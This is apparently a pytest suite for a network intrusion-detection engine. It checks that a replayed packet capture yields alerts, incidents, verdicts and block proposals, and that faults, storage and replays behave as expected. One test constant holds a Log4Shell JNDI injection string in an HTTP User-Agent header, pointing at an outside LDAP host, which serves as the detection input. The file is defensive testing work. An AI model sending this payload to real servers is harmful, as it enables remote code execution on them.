"""The engine, whole: a capture goes in, incidents and verdicts come out, and nothing is lost."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import Iterable
from functools import partial
from pathlib import Path

import pytest

from engine import wire
from engine.agent.recorded import RecordedHost
from engine.config import Settings
from engine.core import Engine
from engine.intake import Intake, Reader
from engine.plan import Plan
from engine.sources.pcapfile import PcapFile
from engine.store.database import Store, open_store
from engine.stored import StoredInputs, stored_of
from engine.types import (
    NOT_YET,
    Alert,
    Event,
    Fault,
    Frame,
    Incident,
    IncidentView,
    Proposal,
    ProposalState,
    Verdict,
)
from tests.engine.bench import settings
from tests.factories import conversation, pcap_file

JNDI = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"
PLAIN = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.0\r\n\r\n"


def _open(file: Path) -> Reader:
    return Intake(PcapFile(file), max_flows=1000)


@pytest.fixture(scope="module", autouse=True)
def knowledge(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Make the knowledge base once."""
    KNOWLEDGE.append(tmp_path_factory.mktemp("knowledge") / "knowledge.db")


KNOWLEDGE: list[Path] = []


def _plan(tmp_path: Path, files: Iterable[Path], **changes: object) -> Plan:
    values: dict[str, object] = {
        "source": "test.pcap",
        "title": "test.pcap",
        "open_readers": [partial(_open, file) for file in files],
        "settings": settings(),
        "database": tmp_path / "aegis.db",
        "knowledge": KNOWLEDGE[-1],
        "lockstep": True,
        "host": RecordedHost(),
    }
    return Plan(**(values | changes))  # type: ignore[arg-type]


async def _run(plan: Plan) -> tuple[Engine, list[Event]]:
    events: list[Event] = []
    engine = Engine(plan, on_event=events.append)
    async with asyncio.timeout(60):
        await engine.run()
    return engine, events


def _attack(folder: Path, frames: Iterable[Frame] | None = None) -> Path:
    return pcap_file(folder / "attack.pcap", frames or conversation(JNDI))


async def test_an_exploit_becomes_an_alert_an_incident_a_verdict_and_a_proposal(tmp_path: Path) -> None:
    _, events = await _run(_plan(tmp_path, [_attack(tmp_path)], settings=Settings()))
    alerts = [event for event in events if isinstance(event, Alert)]
    assert "log4shell.jndi" in {alert.detection.label for alert in alerts}
    (verdict,) = [event for event in events if isinstance(event, Verdict)]
    (proposal,) = [event for event in events if isinstance(event, Proposal)]
    assert verdict.analyst == "playbook"
    assert all(claim.supported for claim in verdict.claims)
    assert (proposal.state, proposal.terms.prefix) == (ProposalState.REPLAY, "203.0.113.9/32")


async def test_ordinary_traffic_raises_nothing(tmp_path: Path) -> None:
    engine, events = await _run(_plan(tmp_path, [_attack(tmp_path, conversation(PLAIN))]))
    assert [event for event in events if isinstance(event, Alert)] == []
    assert engine.totals()["parsed"] == len(conversation(PLAIN))


async def test_the_same_capture_gives_the_same_lines_twice(tmp_path: Path) -> None:
    first = await _run(_plan(tmp_path, [_attack(tmp_path)]))
    second = await _run(_plan(tmp_path, [_attack(tmp_path)]))
    kinds = (Alert, Incident, Verdict, Proposal)
    lines = [[wire.event_line(event) for event in events if isinstance(event, kinds)] for _, events in (first, second)]
    assert lines[0] == lines[1]
    assert first[0].totals() == second[0].totals()


async def test_a_stored_incident_replays_to_the_same_lines(tmp_path: Path) -> None:
    _, events = await _run(_plan(tmp_path, [_attack(tmp_path)]))
    (incident_id,) = {event.id for event in events if isinstance(event, Incident)}
    async with open_store(tmp_path / "aegis.db") as store:
        inputs, recordings = await store.inputs(incident_id), await store.recordings(incident_id)
    again = _plan(
        tmp_path,
        [],
        source=incident_id,
        open_readers=[partial(StoredInputs, incident_id, inputs)],
        database=None,
        recordings={incident_id: recordings},
        local_ips=("192.0.2.1",),
    )
    _, replayed = await _run(again)
    kinds = (Alert, Incident, Verdict, Proposal)
    expected = [wire.event_line(event) for event in events if isinstance(event, kinds)]
    assert [wire.event_line(event) for event in replayed if isinstance(event, kinds)] == expected


async def test_everything_about_an_incident_is_stored(tmp_path: Path) -> None:
    await _run(_plan(tmp_path, [_attack(tmp_path)]))
    async with open_store(tmp_path / "aegis.db") as store:
        (incident,) = await store.incidents()
        view = await store.view(incident.id)
        packets = await store.packets(incident.id)
    assert view is not None
    assert {alert.id for alert in view.alerts} == set(incident.alert_ids)
    assert view.evidence and view.steps and view.verdict and view.proposals
    (tmp_path / "slice.pcap").write_bytes(packets)
    sliced = [frame for batch in PcapFile(tmp_path / "slice.pcap").batches() for frame in batch]
    assert [frame.data for frame in sliced] == [frame.data for frame in conversation(JNDI)]


async def test_replaying_a_capture_again_replaces_what_was_stored(tmp_path: Path) -> None:
    for _ in range(2):
        await _run(_plan(tmp_path, [_attack(tmp_path)]))
    async with open_store(tmp_path / "aegis.db") as store:
        (incident,) = await store.incidents()
        view = await store.view(incident.id)
    assert view is not None
    assert [step.seq for step in view.steps] == list(range(1, len(view.steps) + 1))


async def test_a_replay_of_another_source_takes_nothing_from_what_is_stored(tmp_path: Path) -> None:
    await _run(_plan(tmp_path, [_attack(tmp_path)], host=RecordedHost({"services": "{}"})))
    async with open_store(tmp_path / "aegis.db") as store:
        (incident,) = await store.incidents()
        before = await stored_of(store, await _view(store, incident.id))
    engine, events = await _run(_plan(tmp_path, [_attack(tmp_path)], source="slice.pcap", title="slice.pcap"))
    async with open_store(tmp_path / "aegis.db") as store:
        assert await stored_of(store, await _view(store, incident.id)) == before
    assert engine.left_as_stored == {incident.id: "test.pcap"}
    assert any(isinstance(event, Verdict) for event in events), "it is judged and told all the same"


async def _view(store: Store, incident_id: str) -> IncidentView:
    view = await store.view(incident_id)
    assert view is not None
    return view


async def test_while_the_model_and_the_analyst_load_nobody_is_told_that_there_is_none(tmp_path: Path) -> None:
    engine = Engine(_plan(tmp_path, [_attack(tmp_path)]))
    assert (engine.snapshot().status.model, engine.snapshot().status.analyst) == (NOT_YET, NOT_YET)
    async with asyncio.timeout(60):
        await engine.run()
    status = engine.snapshot().status
    assert (status.model.split()[0], status.analyst) == ("model", "playbook")


async def test_a_missing_model_is_a_fault_and_the_rules_judge_alone(tmp_path: Path) -> None:
    plan = _plan(tmp_path, [_attack(tmp_path)], settings=Settings(model=str(tmp_path / "none.onnx")))
    _, events = await _run(plan)
    faults = [event for event in events if isinstance(event, Fault)]
    assert [fault.ability for fault in faults] == ["model"]
    assert any(isinstance(event, Alert) for event in events)


@pytest.mark.parametrize("content", [b"", b"not a capture", b"\xd4\xc3\xb2\xa1"], ids=["empty", "foreign", "cut"])
async def test_a_file_that_is_no_capture_is_a_fault_and_the_next_is_read(tmp_path: Path, content: bytes) -> None:
    broken = tmp_path / "broken.pcap"
    broken.write_bytes(content)
    engine, events = await _run(_plan(tmp_path, [broken, _attack(tmp_path)]))
    assert len(engine.failed) == 1
    assert any(isinstance(event, Alert) for event in events)


async def test_a_truncated_capture_keeps_what_was_read(tmp_path: Path) -> None:
    file = _attack(tmp_path)
    file.write_bytes(file.read_bytes()[:-5])
    engine, events = await _run(_plan(tmp_path, [file]))
    assert "attack.pcap" in engine.failed[0]
    assert any(isinstance(event, Alert) for event in events)


async def test_a_damaged_database_is_set_aside_and_said(tmp_path: Path) -> None:
    (tmp_path / "aegis.db").write_bytes(b"this is no database" * 100)
    _, events = await _run(_plan(tmp_path, [_attack(tmp_path)]))
    assert "store" in {event.ability for event in events if isinstance(event, Fault)}
    assert (tmp_path / "aegis.db.damaged-1").is_file()
    async with open_store(tmp_path / "aegis.db") as store:
        assert len(await store.incidents()) == 1


async def test_the_accounting_identity_holds_when_the_queues_are_empty(tmp_path: Path) -> None:
    engine, _ = await _run(_plan(tmp_path, [_attack(tmp_path), _attack(tmp_path, conversation(PLAIN))]))
    counters = engine.counters()
    assert counters.kernel_seen == counters.delivered + counters.kernel_dropped
    assert counters.delivered == counters.parsed + counters.filtered + counters.malformed
    assert counters.detections == counters.alerts + counters.deduplicated + counters.suppressed


async def test_a_cancelled_run_loses_nothing_it_accepted(tmp_path: Path) -> None:
    engine = Engine(_plan(tmp_path, [_attack(tmp_path)]))
    task = asyncio.create_task(engine.run(stay=True))
    async with asyncio.timeout(60):
        await engine.finished.wait()
    engine._writer.add([("INSERT INTO fault (at, body) VALUES (1, 'late')", ())])
    task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await task
    async with open_store(tmp_path / "aegis.db") as store:
        assert await store._all("SELECT body FROM fault WHERE at = 1") == [("late",)]


async def test_blocking_is_refused_in_a_replay(tmp_path: Path) -> None:
    engine, events = await _run(_plan(tmp_path, [_attack(tmp_path)]))
    (proposal,) = [event for event in events if isinstance(event, Proposal)]
    review = await engine.review(proposal.id)
    assert review.refusals == ("this is a replay: blocking is off",)
    with pytest.raises(PermissionError, match="replay"):
        await engine.decide(proposal.id, review.token, approve=True)


async def test_a_replay_tells_what_a_block_would_have_dropped_of_the_capture(tmp_path: Path) -> None:
    frames = conversation(JNDI)
    engine = Engine(_plan(tmp_path, [_attack(tmp_path, frames)]))
    async with asyncio.timeout(60), asyncio.TaskGroup() as tasks:
        running = tasks.create_task(engine.run(stay=True))
        await engine.finished.wait()
        impact = await engine.impact(["203.0.113.0/24"])
        running.cancel()
    assert (impact.flows, impact.packets + impact.out_packets) == (1, len(frames))
    assert (impact.sources, impact.services) == (("203.0.113.9",), ("tcp/8080",))
    assert impact.handshake_at == frames[0].ts
    with pytest.raises(LookupError, match="has ended"):
        await engine.impact(["203.0.113.9"])


@pytest.mark.parametrize(("live", "knows_the_time"), [(True, True), (False, False)])
def test_a_host_on_which_nothing_came_yet_knows_the_time_and_a_replay_does_not(
    tmp_path: Path, live: bool, knows_the_time: bool
) -> None:
    began = time.time()
    now = Engine(_plan(tmp_path, [tmp_path / "a.pcap"], live=live)).snapshot().now
    assert (now >= began) is knows_the_time
